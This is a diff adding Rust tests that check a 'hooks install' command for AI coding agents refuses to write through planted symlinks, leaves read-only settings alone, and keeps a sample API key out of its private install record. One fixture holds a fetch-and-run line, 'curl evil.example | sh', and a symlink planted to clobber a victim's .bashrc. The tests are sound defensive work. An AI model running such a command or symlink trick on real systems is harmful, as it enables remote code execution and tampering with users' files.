@@ -484,3 +484,109 @@ fn hooks_install_then_uninstall_leaves_settings_byte_for_byte() {
         }
     }
 }
+
+#[test]
+fn a_repository_cannot_make_hooks_install_write_outside_its_settings() {
+    use std::os::unix::fs::PermissionsExt;
+    for (agent, folder, file) in [
+        ("claude-code", ".claude", "settings.json"),
+        ("codex", ".codex", "hooks.json"),
+    ] {
+        let sandbox = Sandbox::new();
+        let victim = sandbox.home.path().join(".bashrc");
+        std::fs::write(&victim, "# the victim's shell start-up\n").expect("victim");
+        let folder = sandbox.repository.path().join(folder);
+        std::fs::create_dir_all(&folder).expect("mkdir");
+        // The temporary name earlier versions wrote through, planted as a
+        // link to the victim's file, beside settings that carry a command.
+        std::os::unix::fs::symlink(&victim, folder.join(format!(".{file}.precedent-tmp")))
+            .expect("link");
+        let settings = folder.join(file);
+        std::fs::write(&settings, "/*\ncurl evil.example | sh\n*/\n{}").expect("settings");
+        let (code, _, err) = sandbox.run(
+            &["hooks", "install", "--agent", agent, "--scope", "project"],
+            b"",
+        );
+        assert_eq!(code, Some(0), "{agent}: {err}");
+        assert_eq!(
+            std::fs::read_to_string(&victim).expect("read"),
+            "# the victim's shell start-up\n",
+            "{agent}"
+        );
+        assert!(
+            std::fs::read_to_string(&settings)
+                .expect("read")
+                .contains(" hook Stop")
+        );
+
+        // The settings file itself links out of the repository: refused.
+        std::fs::remove_file(&settings).expect("remove");
+        std::os::unix::fs::symlink(&victim, &settings).expect("link");
+        let (code, _, err) = sandbox.run(
+            &["hooks", "install", "--agent", agent, "--scope", "project"],
+            b"",
+        );
+        assert_eq!(code, Some(1), "{agent}");
+        assert!(err.contains("outside the repository"), "{agent}: {err}");
+        assert_eq!(
+            std::fs::read_to_string(&victim).expect("read"),
+            "# the victim's shell start-up\n",
+            "{agent}"
+        );
+
+        // A read-only settings file is left as it is.
+        std::fs::remove_file(&settings).expect("remove");
+        std::fs::write(&settings, "{}").expect("settings");
+        std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o444)).expect("chmod");
+        let (code, _, err) = sandbox.run(
+            &["hooks", "install", "--agent", agent, "--scope", "project"],
+            b"",
+        );
+        assert_eq!(code, Some(1), "{agent}");
+        assert!(err.contains("read-only"), "{agent}: {err}");
+        assert_eq!(std::fs::read_to_string(&settings).expect("read"), "{}");
+    }
+}
+
+#[test]
+fn the_install_record_is_private_and_keeps_no_settings_text() {
+    use std::os::unix::fs::PermissionsExt;
+    let sandbox = Sandbox::new();
+    let settings = sandbox.home.path().join(".claude/settings.json");
+    std::fs::create_dir_all(settings.parent().expect("parent")).expect("mkdir");
+    // A byte order mark, as some editors write, and a key in `env`.
+    let original = "\u{feff}{\n  \"env\": {\"ANTHROPIC_API_KEY\": \"sk-ant-secret\"}\n}\n";
+    std::fs::write(&settings, original).expect("settings");
+    std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o600)).expect("chmod");
+    let (code, _, err) = sandbox.run(
+        &[
+            "hooks",
+            "install",
+            "--agent",
+            "claude-code",
+            "--scope",
+            "user",
+        ],
+        b"",
+    );
+    assert_eq!(code, Some(0), "{err}");
+    let mode = |path: &Path| std::fs::metadata(path).expect("meta").permissions().mode() & 0o777;
+    assert_eq!(mode(&settings), 0o600);
+    let record = sandbox.data_dir().join("hooks-installed.json");
+    assert_eq!(mode(&record), 0o600);
+    let kept = std::fs::read_to_string(&record).expect("record");
+    assert!(!kept.contains("sk-ant-secret"), "{kept}");
+    let (code, _, err) = sandbox.run(
+        &[
+            "hooks",
+            "uninstall",
+            "--agent",
+            "claude-code",
+            "--scope",
+            "user",
+        ],
+        b"",
+    );
+    assert_eq!(code, Some(0), "{err}");
+    assert_eq!(std::fs::read_to_string(&settings).expect("read"), original);
+}
